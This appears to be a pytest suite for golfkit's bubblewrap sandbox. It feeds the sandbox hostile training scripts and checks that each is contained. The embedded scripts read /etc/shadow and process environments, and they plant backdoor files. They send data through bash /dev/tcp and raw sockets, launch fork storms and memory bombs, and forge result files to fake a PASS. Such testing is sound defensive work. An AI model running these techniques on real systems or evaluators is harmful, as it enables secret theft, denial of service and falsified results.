"""Hostile scripts against golfkit's sandbox (golfkit/sandbox.py), probed as an attacker would write them.

Each case asserts containment from outside the sandbox (the marker file is absent, the secret appears
nowhere in golfkit's output, the listeners golfkit's test opened received nothing, the daemon's
process is gone, the tree's memory stayed under the bound) and the finding that reports it. The
forged result and every case where no probe ran give a failing verdict (exit 1), never PASS.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

import golfkit
from golfkit.cli import main
from golfkit.probe.report import record_report
from golfkit.probe.run import ProbeOptions, probe_record
from golfkit.report import FORMATS, render
from golfkit.sandbox import unavailable_reason

pytestmark = pytest.mark.skipif(unavailable_reason() is not None,
                                reason=f"the sandbox needs bubblewrap: {unavailable_reason()}")

ROOT = Path(__file__).resolve().parents[1]
EXAMPLE = ROOT / "records" / "track_non_record_16mb" / "2026-11-22_golfkit_reference_cpu"


def probe_source(tmp_path: Path, source: str, **options):
    folder = tmp_path / "rec"
    folder.mkdir(exist_ok=True)
    (folder / "train_gpt.py").write_text(source)
    return probe_record(folder, ProbeOptions(sweep=False, **options))


def only_finding(report):
    assert len(report.findings) == 1, [f.message for f in report.findings]
    return report.findings[0]


def all_output(report) -> str:
    """Everything golfkit says about a probe, in every format."""
    return "\n".join(render([record_report(report)], fmt) for fmt in FORMATS)


def processes_with(marker: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                cmd = Path(f"/proc/{entry}/cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
            except OSError:
                continue
            if marker in cmd:
                found.append(int(entry))
    return found


# ----------------------------------------------------------------------------- reading and writing


@pytest.mark.fires("probe.not_run")
def test_reads_outside_the_working_copy_find_nothing(tmp_path, monkeypatch):
    secret = secrets.token_hex(16)
    (tmp_path / "secret.txt").write_text(secret)
    monkeypatch.setenv("GOLFKIT_TEST_SECRET", secret)  # the parent's environment
    targets = [str(tmp_path / "secret.txt"), "/etc/shadow", "/root/.bashrc", str(Path(golfkit.__file__)),
               str(ROOT / "pyproject.toml"), "/proc/1/environ", f"/proc/{os.getpid()}/environ"]
    source = (
        "import os\n"
        f"seen = []\nfor path in {targets!r}:\n"
        "    try:\n        seen.append(open(path, 'rb').read(4000).decode('latin-1'))\n"
        "    except OSError as exc:\n        seen.append(type(exc).__name__)\n"
        "seen.append(repr(dict(os.environ)))\n"
        "for pid in os.listdir('/proc'):\n"
        "    if pid.isdigit():\n"
        "        try:\n            seen.append(open(f'/proc/{pid}/environ', 'rb').read().decode('latin-1'))\n"
        "        except OSError:\n            pass\n"
        "print('\\n'.join(seen))\n"
        "raise RuntimeError('leak: ' + ' '.join(seen)[:3000])\n"
    )
    report = probe_source(tmp_path, source)
    assert secret not in all_output(report)
    finding = only_finding(report)
    assert finding.id == "probe.not_run" and "RuntimeError" in finding.message
    assert report.sandbox["confined"] is True


def test_writes_outside_the_working_copy_land_nowhere(tmp_path):
    record = tmp_path / "rec"
    marker = secrets.token_hex(8)
    outside = [tmp_path / f"outside-{marker}", Path(golfkit.__file__).with_name(f"backdoor_{marker}.py"),
               Path(sys.prefix) / f"backdoor-{marker}", record / f"into-the-record-{marker}",
               Path("/tmp") / f"host-tmp-{marker}"]
    source = (
        f"for path in {[str(p) for p in outside]!r}:\n"
        "    try:\n        open(path, 'w').write('pwned')\n    except OSError:\n        pass\n"
        "open('scratch.txt', 'w').write('the working copy is writable')\n"
    )
    report = probe_source(tmp_path, source)
    for path in outside:
        assert not path.exists(), path
    assert sorted(os.listdir(record)) == ["train_gpt.py"]
    assert only_finding(report).id == "probe.not_run"  # no model to probe: nothing ran, never PASS


# ----------------------------------------------------------------------------- network


@pytest.mark.fires("probe.sandbox.network")
@pytest.mark.quiet("probe.sandbox.timeout", "probe.sandbox.crashed")
def test_opening_an_internet_socket_is_reported(tmp_path):
    source = "import socket\nsocket.create_connection(('192.0.2.1', 80), timeout=5)\n"
    finding = only_finding(probe_source(tmp_path, source))
    assert finding.id == "probe.sandbox.network"


def test_host_listeners_receive_nothing_even_past_the_socket_guard(tmp_path):
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(8)
    tcp.settimeout(0.5)
    port = tcp.getsockname()[1]
    unix_dir = Path(f"/tmp/golfkit-test-{secrets.token_hex(4)}")
    unix_dir.mkdir()
    unix_path = unix_dir / "s.sock"
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind(str(unix_path))
    unix.listen(8)
    unix.settimeout(0.5)
    source = (
        "import socket, _socket, subprocess\n"
        "base = [c for c in socket.socket.__mro__ if c.__module__ == '_socket'][0]\n"
        "for make in (lambda: base(socket.AF_INET, socket.SOCK_STREAM),\n"
        "             lambda: socket.SocketType(socket.AF_INET, socket.SOCK_STREAM)):\n"
        "    try:\n"
        f"        s = make(); s.settimeout(2); s.connect(('127.0.0.1', {port})); s.send(b'leak')\n"
        "    except BaseException:\n        pass\n"
        "try:\n"
        f"    u = base(socket.AF_UNIX, socket.SOCK_STREAM); u.connect({str(unix_path)!r}); u.send(b'leak')\n"
        "except BaseException:\n    pass\n"
        f"subprocess.run(['bash', '-c', 'echo leak > /dev/tcp/127.0.0.1/{port}'], timeout=5)\n"
    )
    try:
        report = probe_source(tmp_path, source)
        for listener in (tcp, unix):
            with pytest.raises(socket.timeout):
                listener.accept()
    finally:
        tcp.close()
        unix.close()
        shutil.rmtree(unix_dir)
    assert report.findings and all(f.severity.value == "error" for f in report.findings)


# ----------------------------------------------------------------------------- processes and memory


@pytest.mark.fires("probe.not_run")
def test_a_daemon_does_not_outlive_the_probe(tmp_path):
    marker = str(900 + secrets.randbelow(99))
    source = (
        "import subprocess\n"
        f"subprocess.Popen(['sleep', '{marker}.123'], start_new_session=True, stdin=subprocess.DEVNULL,\n"
        "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
    )
    report = probe_source(tmp_path, source)
    assert processes_with(f"sleep {marker}.123") == []
    assert only_finding(report).id == "probe.not_run"


def test_forked_children_do_not_outlive_a_normal_exit(tmp_path):
    marker = f"{secrets.randbelow(10**6)}.5"
    source = (
        "import os\n"
        "for _ in range(300):\n"
        "    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
        f"    if pid == 0:\n        os.execvp('sleep', ['sleep', '{marker}'])\n"
    )
    report = probe_source(tmp_path, source)
    time.sleep(0.2)
    assert processes_with(f"sleep {marker}") == []
    assert report.findings and all(f.severity.value == "error" for f in report.findings)


@pytest.mark.fires("probe.sandbox.memory")
@pytest.mark.quiet("probe.sandbox.timeout", "probe.sandbox.crashed", "probe.sandbox.processes")
def test_forks_cannot_escape_the_memory_bound_of_the_tree(tmp_path):
    # four children of 600 MB each: every one is under the per-process limit, the tree is over 1024 MB
    source = (
        "import os, time\n"
        "for _ in range(4):\n"
        "    if os.fork() == 0:\n"
        "        block = bytearray(600 << 20)\n"
        "        for i in range(0, len(block), 4096):\n            block[i] = 1\n"
        "        time.sleep(60)\n        os._exit(0)\n"
        "time.sleep(60)\n"
    )
    report = probe_source(tmp_path, source, memory_mb=1024, timeout_s=50)
    finding = only_finding(report)
    assert finding.id == "probe.sandbox.memory", finding.message
    assert report.sandbox["peak_memory_mb"] < 1024 * 1.25  # stopped near the bound, not at 2.4 GB


@pytest.mark.fires("probe.sandbox.processes")
def test_a_fork_storm_is_stopped(tmp_path):
    source = (
        "import os, time\n"
        "for _ in range(2000):\n"
        "    try:\n        pid = os.fork()\n    except OSError:\n        continue\n"
        "    if pid == 0:\n        time.sleep(30)\n        os._exit(0)\n"
        "time.sleep(30)\n"
    )
    report = probe_source(tmp_path, source, timeout_s=25)
    assert [f.id for f in report.findings] == ["probe.sandbox.processes"]


@pytest.mark.fires("probe.sandbox.timeout")
def test_the_wall_clock_limit_kills_the_whole_group(tmp_path):
    marker = f"{secrets.randbelow(10**6)}.25"
    source = (f"import subprocess, time\nsubprocess.Popen(['sleep', '{marker}'], start_new_session=True)\n"
              "while True:\n    time.sleep(1)\n")
    report = probe_source(tmp_path, source, timeout_s=6)
    assert only_finding(report).id == "probe.sandbox.timeout"
    assert processes_with(f"sleep {marker}") == []


# ----------------------------------------------------------------------------- verdicts


@pytest.mark.fires("probe.not_run")
@pytest.mark.quiet("probe.sandbox.crashed")
def test_a_forged_result_is_not_a_pass(tmp_path):
    # the attack that forged PASS before: write the result file the old child read, then leave at once
    source = (
        "import json, os\n"
        "for name in ('probe_request.json', 'probe_result.json', '../probe_result.json', '/tmp/probe_result.json'):\n"
        "    try:\n        open(name, 'w').write(json.dumps({'status': 'ok', 'evaluators': {}}))\n"
        "    except OSError:\n        pass\n"
        "os._exit(0)\n"
    )
    folder = tmp_path / "rec"
    folder.mkdir()
    (folder / "train_gpt.py").write_text(source)
    result = CliRunner().invoke(main, ["probe", str(folder), "--trust-code", "--no-sweep"])
    assert result.exit_code == 1, result.output
    assert "probe.not_run" in result.output and "PASS" not in result.output


@pytest.mark.fires("probe.not_run")
def test_observations_written_into_the_pipe_by_the_script_do_not_make_a_pass(tmp_path):
    source = (
        "import os\n"
        "for fd in os.listdir('/proc/self/fd'):\n"
        "    try:\n"
        "        os.write(int(fd), b'{\"kind\": \"setup\", \"available\": []}\\n{\"kind\": \"done\"}\\n')\n"
        "    except OSError:\n        pass\n"
        "os._exit(0)\n"
    )
    report = probe_source(tmp_path, source)
    assert record_report(report).verdict == "fail"
    assert [f.id for f in report.findings] == ["probe.not_run"]


@pytest.mark.fires("probe.not_run")
@pytest.mark.parametrize(("source", "needle"), [
    ("import transformer_engine\n", "transformer_engine"),  # CUDA-only, no CPU stand-in (flash_attn has one)
    ("def broken(:\n", "SyntaxError"),
    ("\x7fELF\x02\x01\x01\x00 not python at all\n", "could not be imported"),
    ("import sys\nsys.exit(0)\n", "SystemExit"),
    ("import os\nos._exit(0)\n", "exit status 0"),
    ("x = 1\n", "GPT"),
])
def test_every_not_run_case_fails_with_exit_1(tmp_path, source, needle):
    folder = tmp_path / "rec"
    folder.mkdir()
    (folder / "train_gpt.py").write_text(source, errors="surrogateescape")
    result = CliRunner().invoke(main, ["probe", str(folder), "--trust-code", "--no-sweep", "--format", "json"])
    assert result.exit_code == 1, result.output
    doc = json.loads(result.output)
    (record,) = doc["records"]
    ids = [f["id"] for f in record["findings"] if f["severity"] == "error"]
    assert ids == ["probe.not_run"], ids
    assert needle in json.dumps(record["findings"])


@pytest.mark.fires("probe.not_run")
def test_an_evaluator_that_cannot_be_called_is_not_run(tmp_path):
    source = (ROOT / "templates" / "train_gpt.py").read_text()
    source = source.replace("def eval_val(args, model,", "def eval_val(mystery, args, model,", 1)
    report = probe_source(tmp_path, source, only=("eval_val",))
    finding = only_finding(report)
    assert finding.id == "probe.not_run" and "mystery" in finding.message


@pytest.mark.quiet("probe.not_run", "probe.sandbox.crashed", "probe.sandbox.memory", "probe.sandbox.processes",
                   "probe.sandbox.timeout", "probe.sandbox.network")
def test_the_honest_example_passes_every_probe_even_with_a_probe_data_folder(tmp_path):
    folder = tmp_path / "rec"
    shutil.copytree(EXAMPLE, folder)
    (folder / "probe_data").mkdir()  # golfkit's own working names never collide with the record's
    (folder / "probe_data" / "tokenizer.model").write_text("not a tokenizer")
    (folder / "probe_request.json").write_text("{}")
    report = probe_record(folder, ProbeOptions(sweep=False))
    assert [f.id for f in report.findings if f.severity.value != "info"] == []
    assert record_report(report).verdict == "pass"
    assert {ev.name for ev in report.evaluators} == {"eval_val", "eval_val_sliding"}
    for ev in report.evaluators:
        allowed = ("not run: the record does not claim", "not run: no vocabulary sweep")
        assert all(status == "pass" or status.startswith(allowed) for status in ev.status.values()), ev.status


# ----------------------------------------------------------------------------- inputs that are not files


@pytest.mark.parametrize("kind", ["outside", "dev_zero", "fifo"])
def test_a_script_that_is_a_link_or_a_fifo_is_refused_before_it_is_read(tmp_path, kind):
    folder = tmp_path / "rec"
    folder.mkdir()
    secret = secrets.token_hex(8)
    script = folder / "train_gpt.py"
    if kind == "outside":
        (tmp_path / "elsewhere.py").write_text(f"SECRET = '{secret}'\n")
        script.symlink_to(tmp_path / "elsewhere.py")
    elif kind == "dev_zero":
        script.symlink_to("/dev/zero")
    else:
        os.mkfifo(script)
    result = CliRunner().invoke(main, ["probe", str(folder), "--trust-code"])
    assert result.exit_code == 2, result.output
    assert "symlink or special file" in result.output
    assert secret not in result.output


def test_special_files_in_the_record_are_not_copied(tmp_path):
    folder = tmp_path / "rec"
    shutil.copytree(EXAMPLE, folder)
    os.mkfifo(folder / "pipe")
    (folder / "link").symlink_to("/etc/hostname")
    report = probe_record(folder, ProbeOptions(sweep=False, only=("eval_val",)))
    assert record_report(report).verdict == "pass"
    assert sorted(report.sandbox["skipped_files"]) == ["link (a symlink or unreadable)", "pipe (not a regular file)"]


# ----------------------------------------------------------------------------- no sandbox, no run


def test_without_bubblewrap_probe_refuses_with_exit_2(tmp_path, monkeypatch):
    monkeypatch.setattr("golfkit.sandbox._probe_bwrap", lambda: "bubblewrap (bwrap) is not installed")
    result = CliRunner().invoke(main, ["probe", str(EXAMPLE), "--trust-code"])
    assert result.exit_code == 2
    assert "apt-get install bubblewrap" in result.output and len(result.output.strip().splitlines()) == 1
    for args in (["verify", str(EXAMPLE), "--probes", "--trust-code"],):
        refused = CliRunner().invoke(main, args)
        assert refused.exit_code == 2 and "bubblewrap" in refused.output


@pytest.mark.parametrize("fmt", FORMATS)
def test_unconfined_runs_say_so_at_the_top_of_every_format(tmp_path, monkeypatch, fmt):
    monkeypatch.setattr("golfkit.sandbox._probe_bwrap", lambda: "bubblewrap (bwrap) is not installed")
    result = CliRunner().invoke(main, ["probe", str(EXAMPLE), "--trust-code", "--unconfined", "--no-sweep",
                                       "--evaluator", "eval_val", "--format", fmt])
    assert result.exit_code == 0, result.output
    head = result.output.lstrip()[:400]
    assert "UNCONFINED" in head, head


def test_the_sandbox_user_is_unprivileged_and_alone(tmp_path):
    source = (
        "import os\n"
        "raise RuntimeError(f'uid={os.getuid()} pids={sorted(int(p) for p in os.listdir(\"/proc\") if p.isdigit())}')\n"
    )
    finding = only_finding(probe_source(tmp_path, source))
    assert "uid=65534" in finding.message
    pids = json.loads(finding.message.split("pids=")[1].split(";")[0].split("]")[0] + "]")
    assert max(pids) < 10  # its own PID namespace: none of the host's processes are visible


def test_containment_holds_for_eval_trust_code_too(tmp_path):
    """`eval --trust-code` runs the record's script through the same sandbox: it cannot write outside."""
    from golfkit.eval.trusted import eval_trusted

    marker = tmp_path / f"outside-{secrets.token_hex(4)}"
    script = tmp_path / "rec" / "train_gpt.py"
    script.parent.mkdir()
    script.write_text(f"open({str(marker)!r}, 'w').write('x')\n")
    (tmp_path / "a.ptz").write_bytes(b"x")
    (tmp_path / "tok.model").write_bytes(b"x")
    (tmp_path / "data").mkdir()
    with pytest.raises(golfkit.errors.GolfkitError):
        eval_trusted(script, tmp_path / "a.ptz", tmp_path / "data", tmp_path / "tok.model", train_seq_len=32)
    assert not marker.exists()
    assert subprocess.run(["true"], check=False).returncode == 0
